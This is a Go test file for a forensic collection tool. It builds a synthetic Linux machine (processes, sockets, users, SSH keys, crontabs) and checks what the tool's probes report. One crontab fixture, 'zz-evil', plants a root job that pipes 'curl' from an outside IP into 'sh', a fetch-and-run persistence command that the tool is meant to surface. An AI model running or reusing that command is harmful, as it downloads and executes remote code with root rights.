//go:build unix

package collect_test

import (
	"context"
	"encoding/binary"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/diffy-dfir/diffy/collect"
	"github.com/diffy-dfir/diffy/payload"
	"github.com/diffy-dfir/diffy/target"
	"github.com/google/go-cmp/cmp"
)

// tree builds a synthetic machine under a temporary root.
type tree struct {
	t    *testing.T
	root string
}

func newTree(t *testing.T) *tree { return &tree{t: t, root: t.TempDir()} }

func (tr *tree) path(p string) string { return filepath.Join(tr.root, filepath.FromSlash(p)) }

func (tr *tree) file(p, content string) {
	tr.t.Helper()
	if err := os.MkdirAll(filepath.Dir(tr.path(p)), 0o755); err != nil {
		tr.t.Fatal(err)
	}
	if err := os.WriteFile(tr.path(p), []byte(content), 0o644); err != nil {
		tr.t.Fatal(err)
	}
}

func (tr *tree) link(p, target string) {
	tr.t.Helper()
	if err := os.MkdirAll(filepath.Dir(tr.path(p)), 0o755); err != nil {
		tr.t.Fatal(err)
	}
	if err := os.Symlink(target, tr.path(p)); err != nil {
		tr.t.Fatal(err)
	}
}

// proc writes /proc/PID for a process; exe "" leaves no exe link (a kernel
// thread), args nil an empty cmdline.
func (tr *tree) proc(pid int, name, statName string, ppid, uid int, exe string, args []string, startTicks int, sockets ...int) {
	dir := fmt.Sprintf("/proc/%d", pid)
	tr.file(dir+"/status", fmt.Sprintf("Name:\t%s\nUmask:\t0022\nState:\tS (sleeping)\nTgid:\t%d\nPid:\t%d\nPPid:\t%d\nUid:\t%d\t%d\t%d\t%d\nGid:\t0\t0\t0\t0\n",
		name, pid, pid, ppid, uid, uid+1, uid+2, uid+3))
	var cmdline string
	for _, a := range args {
		cmdline += a + "\x00"
	}
	tr.file(dir+"/cmdline", cmdline)
	tr.file(dir+"/stat", fmt.Sprintf("%d (%s) S %d 0 0 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 %d 0 0\n", pid, statName, ppid, startTicks))
	if exe != "" {
		tr.link(dir+"/exe", exe)
	}
	tr.link(dir+"/fd/0", "/dev/null")
	for i, s := range sockets {
		tr.link(fmt.Sprintf("%s/fd/%d", dir, i+3), fmt.Sprintf("socket:[%d]", s))
	}
}

// procHex writes addr:port as /proc/net does on this machine: each 32-bit
// word of the address as a number in host byte order.
func procHex(addr string, port int) string {
	b := netip.MustParseAddr(addr).AsSlice()
	var sb strings.Builder
	for i := 0; i < len(b); i += 4 {
		fmt.Fprintf(&sb, "%08X", binary.NativeEndian.Uint32(b[i:]))
	}
	return fmt.Sprintf("%s:%04X", sb.String(), port)
}

type sock struct {
	local, remote string
	lport, rport  int
	state         string
	inode         int
}

func (tr *tree) net(p string, socks ...sock) {
	s := "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
	for i, k := range socks {
		s += fmt.Sprintf("%4d: %s %s %s 00000000:00000000 00:00000000 00000000     0        0 %d 1 0000000000000000 100 0 0 10 0\n",
			i, procHex(k.local, k.lport), procHex(k.remote, k.rport), k.state, k.inode)
	}
	tr.file(p, s)
}

// machine builds the synthetic machine every probe is checked on.
func machine(t *testing.T) *tree {
	tr := newTree(t)
	tr.file("/proc/stat", "cpu  1 2 3 4\nbtime 1700000000\nprocesses 100\n")
	tr.proc(42, "sshd", "sshd", 1, 0, "/usr/sbin/sshd", []string{"/usr/sbin/sshd", "-D"}, 12345, 1001, 1003)
	// The command name in stat holds ") (": fields are counted after the last ')'.
	tr.proc(43, "sshd", "a) (b", 42, 1000, "/usr/sbin/sshd (deleted)", []string{"sshd: alice [priv]", ""}, 99999, 1001)
	tr.proc(77, "kworker/0:1", "kworker/0:1", 2, 0, "", nil, 0)
	tr.proc(100, "dhclient", "dhclient", 1, 0, "/sbin/dhclient", []string{"dhclient", "-4", "eth0"}, 500, 1004)
	if err := os.MkdirAll(tr.path("/proc/88"), 0o755); err != nil { // exited: no status
		t.Fatal(err)
	}
	tr.link("/proc/self", "42")
	tr.net("/proc/net/tcp",
		sock{"0.0.0.0", "0.0.0.0", 22, 0, "0A", 1001},
		sock{"10.0.0.5", "10.0.0.9", 22, 51000, "01", 1002}, // established: not listening
		sock{"127.0.0.1", "0.0.0.0", 5432, 0, "0A", 1005},   // no process holds it
	)
	tr.net("/proc/net/tcp6",
		sock{"::", "::", 22, 0, "0A", 1003},
		sock{"::ffff:10.0.0.1", "::", 8080, 0, "0A", 1006},
		sock{"fe80::1", "::", 443, 0, "0A", 1008},
		sock{"::10.1.2.3", "::", 9000, 0, "0A", 1009},
		sock{"2001:db8::5", "2001:db8::9", 443, 40000, "06", 1010}, // TIME_WAIT
	)
	tr.net("/proc/net/udp",
		sock{"0.0.0.0", "0.0.0.0", 68, 0, "07", 1004},
		sock{"10.0.0.5", "8.8.8.8", 40000, 53, "01", 1007}, // connected: not listening
	)
	// No /proc/net/udp6: a kernel without IPv6.
	tr.file("/proc/modules", "ext4 1003520 3 - Live 0xffffffffc0a1b000\n"+
		"jbd2 172032 1 ext4, Live 0xffffffffc0a00000\n"+
		"nf_conntrack 176128 3 nf_nat,nft_ct,xt_conntrack, Live 0x0000000000000000 (OE)\n"+
		"broken 1 2\n")

	tr.file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n"+
		"# a comment\n"+
		"alice:x:1000:1000:Alice Liddell,,,:/home/alice:/bin/bash\n"+
		"bob:x:1001:1001::/home/bob:/bin/sh\n"+
		"+::::::\n"+
		"broken line\n"+
		"carol:x:1002:1002:Carol:/home/carol:/bin/zsh\n"+
		"toor:x:0:0:second root:/root:/bin/sh\n"+
		"nohome:x:1003:1003::relative/home:/bin/sh\n"+
		"\n")
	tr.file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIRootKey root@host\n")
	tr.file("/home/alice/.ssh/authorized_keys", "# alice's keys\n\n"+
		"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQAlice1 alice@laptop\n"+
		`command="echo hello world",no-pty,from="10.0.0.1,10.0.0.2" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAlice2 restricted key`+"\n"+
		`environment="A=\"quoted space\"" ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAlice3`+"\n"+
		"ssh-ed25519-cert-v01@openssh.com AAAAIHNzaC1lZDI1NTE5LWNlcnQtdjAxQG9wZW5zc2guY29tAlice4 cert\n"+
		"   ssh-foo AAAAnewalgo\n"+
		"no-pty\n"+
		"ssh-dss AAAAB3NzaC1kc3MAlice5 dos\r\n")
	tr.file("/home/alice/.ssh/authorized_keys2", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAlice6")
	tr.link("/home/carol/.ssh/authorized_keys", "/dev/null")
	if err := syscall.Mkfifo(tr.path("/home/carol/.ssh/authorized_keys2"), 0o644); err != nil {
		t.Fatal(err)
	}

	tr.file("/etc/crontab", "# /etc/crontab: system-wide crontab\n"+
		"SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin\nMAILTO = root\n\n"+
		"17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n"+
		"@reboot root /opt/agent/start.sh --quiet\n"+
		"1 2 3\n")
	tr.file("/etc/cron.d/zz-evil", "* * * * * root curl -s http://203.0.113.7/x | sh\n")
	tr.file("/etc/cron.d/aa-backup", "  # indented comment\n30 2 * * 0 root /usr/local/bin/backup\n")
	tr.file("/etc/cron.d/subdir/nested", "* * * * * root /not/read\n")
	tr.file("/var/spool/cron/crontabs/alice", "@hourly /home/alice/bin/sync --full\n*/5 * * * * /usr/bin/true\n")
	tr.file("/var/spool/cron/root", "0 0 * * * /usr/sbin/logrotate\n")
	return tr
}

func portRow(addr, port, proto, name, path, cmdline, pid string) collect.Row {
	return collect.Row{"address": addr, "port": port, "protocol": proto, "name": name, "path": path, "cmdline": cmdline, "pid": pid}
}

func cronRow(event, min, hour, dom, mon, dow, cmd, path string) collect.Row {
	return collect.Row{"event": event, "minute": min, "hour": hour, "day_of_month": dom, "month": mon, "day_of_week": dow, "command": cmd, "path": path}
}

func TestProbesOnSyntheticMachine(t *testing.T) {
	tr := machine(t)
	sshd := func(addr, port string) collect.Row {
		return portRow(addr, port, "6", "sshd", "/usr/sbin/sshd", "/usr/sbin/sshd -D", "42")
	}
	nobody := func(addr, port string) collect.Row { return portRow(addr, port, "6", "", "", "", "-1") }
	user := func(uid, gid, name, desc, dir, shell string) collect.Row {
		return collect.Row{"uid": uid, "gid": gid, "username": name, "description": desc, "directory": dir, "shell": shell}
	}
	key := func(user, algo, key, file string) collect.Row {
		return collect.Row{"username": user, "algorithm": algo, "key": key, "key_file": file}
	}
	proc := func(pid, name, path, cmdline, uid, parent, start string) collect.Row {
		return collect.Row{"pid": pid, "name": name, "path": path, "cmdline": cmdline, "uid": uid, "parent": parent, "start_time": start}
	}
	aliceKeys := "/home/alice/.ssh/authorized_keys"
	want := map[string][]collect.Row{
		payload.ListeningPorts: {
			sshd("0.0.0.0", "22"), // held by 42 and 43: the lowest pid
			nobody("127.0.0.1", "5432"),
			sshd("::", "22"),
			nobody("::ffff:10.0.0.1", "8080"),
			nobody("fe80::1", "443"),
			nobody("::10.1.2.3", "9000"),
			portRow("0.0.0.0", "68", "17", "dhclient", "/sbin/dhclient", "dhclient -4 eth0", "100"),
		},
		payload.Processes: {
			proc("42", "sshd", "/usr/sbin/sshd", "/usr/sbin/sshd -D", "0", "1", "1700000123"),
			proc("43", "sshd", "/usr/sbin/sshd (deleted)", "sshd: alice [priv]", "1000", "42", "1700000999"),
			proc("77", "kworker/0:1", "", "", "0", "2", "1700000000"),
			proc("100", "dhclient", "/sbin/dhclient", "dhclient -4 eth0", "0", "1", "1700000005"),
		},
		payload.Crontab: {
			cronRow("", "17", "*", "*", "*", "*", "root cd / && run-parts --report /etc/cron.hourly", "/etc/crontab"),
			cronRow("@reboot", "", "", "", "", "", "root /opt/agent/start.sh --quiet", "/etc/crontab"),
			cronRow("", "30", "2", "*", "*", "0", "root /usr/local/bin/backup", "/etc/cron.d/aa-backup"),
			cronRow("", "*", "*", "*", "*", "*", "root curl -s http://203.0.113.7/x | sh", "/etc/cron.d/zz-evil"),
			cronRow("", "0", "0", "*", "*", "*", "/usr/sbin/logrotate", "/var/spool/cron/root"),
			cronRow("@hourly", "", "", "", "", "", "/home/alice/bin/sync --full", "/var/spool/cron/crontabs/alice"),
			cronRow("", "*/5", "*", "*", "*", "*", "/usr/bin/true", "/var/spool/cron/crontabs/alice"),
		},
		payload.KernelModules: {
			{"name": "ext4", "size": "1003520", "used_by": "-", "status": "Live", "address": "0xffffffffc0a1b000"},
			{"name": "jbd2", "size": "172032", "used_by": "ext4", "status": "Live", "address": "0xffffffffc0a00000"},
			{"name": "nf_conntrack", "size": "176128", "used_by": "nf_nat,nft_ct,xt_conntrack", "status": "Live", "address": "0x0000000000000000"},
		},
		payload.Users: {
			user("0", "0", "root", "root", "/root", "/bin/bash"),
			user("1000", "1000", "alice", "Alice Liddell,,,", "/home/alice", "/bin/bash"),
			user("1001", "1001", "bob", "", "/home/bob", "/bin/sh"),
			user("1002", "1002", "carol", "Carol", "/home/carol", "/bin/zsh"),
			user("0", "0", "toor", "second root", "/root", "/bin/sh"),
			user("1003", "1003", "nohome", "", "relative/home", "/bin/sh"),
		},
		payload.AuthorizedKeys: {
			key("root", "ssh-ed25519", "AAAAC3NzaC1lZDI1NTE5AAAAIRootKey", "/root/.ssh/authorized_keys"),
			key("alice", "ssh-rsa", "AAAAB3NzaC1yc2EAAAADAQABAAABAQAlice1", aliceKeys),
			key("alice", "ssh-ed25519", "AAAAC3NzaC1lZDI1NTE5AAAAIAlice2", aliceKeys),
			key("alice", "ecdsa-sha2-nistp256", "AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAlice3", aliceKeys),
			key("alice", "ssh-ed25519-cert-v01@openssh.com", "AAAAIHNzaC1lZDI1NTE5LWNlcnQtdjAxQG9wZW5zc2guY29tAlice4", aliceKeys),
			key("alice", "ssh-foo", "AAAAnewalgo", aliceKeys),
			key("alice", "ssh-dss", "AAAAB3NzaC1kc3MAlice5", aliceKeys),
			key("alice", "ssh-ed25519", "AAAAC3NzaC1lZDI1NTE5AAAAIAlice6", aliceKeys+"2"),
			key("toor", "ssh-ed25519", "AAAAC3NzaC1lZDI1NTE5AAAAIRootKey", "/root/.ssh/authorized_keys"),
		},
	}
	// Notes each probe leaves on stderr for what it skipped.
	wantStderr := map[string][]string{
		payload.Users:          {"/etc/passwd line 5 is not a user entry", "/etc/passwd line 6 is not a user entry"},
		payload.AuthorizedKeys: {"/home/carol/.ssh/authorized_keys is not a regular file", "/home/carol/.ssh/authorized_keys2 is not a regular file"},
	}

	l := collect.Local{Root: tr.root, NoOsquery: true}
	rs, err := l.Collect(context.Background(), []target.Instance{{ID: target.LocalID}}, payload.StandardPack())
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rs {
		t.Run(r.CommandID, func(t *testing.T) {
			if r.Status != collect.StatusSuccess {
				t.Fatalf("status %s error %q stderr %q", r.Status, r.Error, r.Stderr)
			}
			if d := cmp.Diff(want[r.CommandID], r.Rows); d != "" {
				t.Errorf("rows (-want +got):\n%s", d)
			}
			for _, s := range wantStderr[r.CommandID] {
				if !strings.Contains(r.Stderr, s) {
					t.Errorf("stderr %q does not say %q", r.Stderr, s)
				}
			}
			if strings.Contains(r.Stderr, tr.root) {
				t.Errorf("stderr %q names the probe's root; it should name host paths", r.Stderr)
			}
		})
	}
}

func TestProbeFailuresOnSyntheticMachine(t *testing.T) {
	run := func(t *testing.T, tr *tree, id string) collect.Result {
		t.Helper()
		return collectOne(t, collect.Local{Root: tr.root, NoOsquery: true}, standard(t, id))
	}
	t.Run("no passwd", func(t *testing.T) {
		tr := newTree(t)
		for _, id := range []string{payload.Users, payload.AuthorizedKeys} {
			r := run(t, tr, id)
			if r.Status != collect.StatusFailed || !strings.Contains(r.Error, "/etc/passwd") || !strings.Contains(r.Error, id) {
				t.Errorf("%s: status %s error %q, want Failed naming the command and /etc/passwd", id, r.Status, r.Error)
			}
		}
	})
	t.Run("oversized key file", func(t *testing.T) {
		tr := newTree(t)
		tr.file("/etc/passwd", "eve:x:1000:1000::/home/eve:/bin/sh\n")
		tr.file("/home/eve/.ssh/authorized_keys", "")
		// Sparse: 17 MiB of zeros that take no disk.
		if err := os.Truncate(tr.path("/home/eve/.ssh/authorized_keys"), 17<<20); err != nil {
			t.Fatal(err)
		}
		r := run(t, tr, payload.AuthorizedKeys)
		if r.Status != collect.StatusFailed || !strings.Contains(r.Error, "/home/eve/.ssh/authorized_keys is over") || r.Rows != nil {
			t.Errorf("status %s error %q, want Failed naming the oversized file, no rows", r.Status, r.Error)
		}
	})
	t.Run("no proc", func(t *testing.T) {
		tr := newTree(t)
		r := run(t, tr, payload.Processes)
		if r.Status != collect.StatusFailed || !strings.Contains(r.Error, "/proc") {
			t.Errorf("processes: status %s error %q, want Failed naming /proc", r.Status, r.Error)
		}
		r = run(t, tr, payload.KernelModules)
		if r.Status != collect.StatusSuccess || len(r.Rows) != 0 || !strings.Contains(r.Stderr, "/proc/modules does not exist") {
			t.Errorf("kernel_modules: status %s rows %v stderr %q, want no rows and a note", r.Status, r.Rows, r.Stderr)
		}
		r = run(t, tr, payload.Crontab)
		if r.Status != collect.StatusSuccess || len(r.Rows) != 0 {
			t.Errorf("crontab without cron files: status %s rows %v error %q, want Success, no rows", r.Status, r.Rows, r.Error)
		}
	})
	t.Run("malformed socket table", func(t *testing.T) {
		tr := newTree(t)
		tr.file("/proc/net/tcp", "  sl  local_address rem_address   st\n   0: 0100007F:ZZZZ 00000000:0000 0A 0:0 0:0 0 0 0 1001\n")
		r := run(t, tr, payload.ListeningPorts)
		if r.Status != collect.StatusFailed || !strings.Contains(r.Error, "/proc/net/tcp line 2") {
			t.Errorf("status %s error %q, want Failed naming the file and line", r.Status, r.Error)
		}
	})
	t.Run("rows over MaxRows", func(t *testing.T) {
		tr := machine(t)
		r := collectOne(t, collect.Local{Root: tr.root, NoOsquery: true, Limits: collect.Limits{MaxRows: 3}}, standard(t, payload.Processes))
		if r.Status != collect.StatusFailed || !r.Truncated || r.Rows != nil {
			t.Errorf("status %s truncated %v rows %v, want 4 processes over a 3-row cap to be Failed, truncated", r.Status, r.Truncated, r.Rows)
		}
	})
}
